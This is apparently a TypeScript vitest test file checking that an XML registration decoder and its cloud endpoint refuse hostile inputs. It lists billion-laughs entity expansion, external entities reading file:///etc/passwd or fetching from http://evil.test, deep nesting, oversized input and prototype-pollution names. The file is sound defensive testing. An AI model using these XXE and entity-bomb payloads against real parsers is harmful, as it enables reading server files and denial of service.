import { expect, it } from 'vitest';
import { documentedSite } from '../../../model/site/documented.js';
import { serviceNames } from '../../protocol/names.js';
import { decodeRegistration, registrationPath } from '../../protocol/registration.js';
import { ProtocolError } from '../../protocol/xml.js';
import { labFetch } from '../../testing/lab-fetch.js';
import { openCloud } from '../../testing/open-cloud.js';
import { leastGrowth, many } from './many.js';

/** Documents that cost more than they are long, or look elsewhere. */
const laughs = Array.from({ length: 9 }, (_, at) => `<!ENTITY l${at + 1} "${`&l${at};`.repeat(10)}">`).join(
  '',
);
const inside = (text: string) => `<RegistrationRequest><TenantId>${text}</TenantId></RegistrationRequest>`;
const bombs: [string, string][] = [
  ['entities of entities', `<!DOCTYPE x [<!ENTITY l0 "lol">${laughs}]>${inside('&l9;')}`],
  ['an entity from a file', `<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>${inside('&f;')}`],
  ['an entity from elsewhere', `<!DOCTYPE x [<!ENTITY % p SYSTEM "http://evil.test/x">%p;]>${inside('')}`],
  ['a document type in other letters', `<!dOcTyPe x SYSTEM "http://evil.test/x">${inside('')}`],
  ['elements without end', '<a>'.repeat(80_000)],
  ['elements in elements', '<a>'.repeat(30_000) + '</a>'.repeat(30_000)],
  ['attributes without end', `<a ${Array.from({ length: 20_000 }, (_, at) => `b${at}="c"`).join(' ')}/>`],
  ['more than is read', inside('x'.repeat(300_000))],
  ['names that every object has', '<__proto__><constructor/></__proto__>'],
];

it.each(bombs)('%s is refused, by name', (_, text) => {
  expect(() => decodeRegistration(text)).toThrow(ProtocolError);
});

it.each(bombs)('%s, over and over: memory is as before', async (_, text) => {
  const read = () => {
    try {
      decodeRegistration(text);
    } catch {
      // As it should.
    }
  };
  // What is large costs as much as so many small ones.
  const times = text.length > 20_000 ? many / 50 : many;
  const often = () => {
    for (let count = 0; count < times; count++) read();
  };
  expect(await leastGrowth(often)).toBeLessThan(8);
});

it('the cloud answers each with a plain refusal, and goes on', async () => {
  await using lab = await openCloud();
  const fetch = labFetch(lab.dialer(), lab.trust);
  const url = `https://${serviceNames(documentedSite()).registration}${registrationPath}`;
  for (const [name, body] of bombs)
    expect((await fetch(url, { method: 'POST', body })).status, name).toBe(400);
});
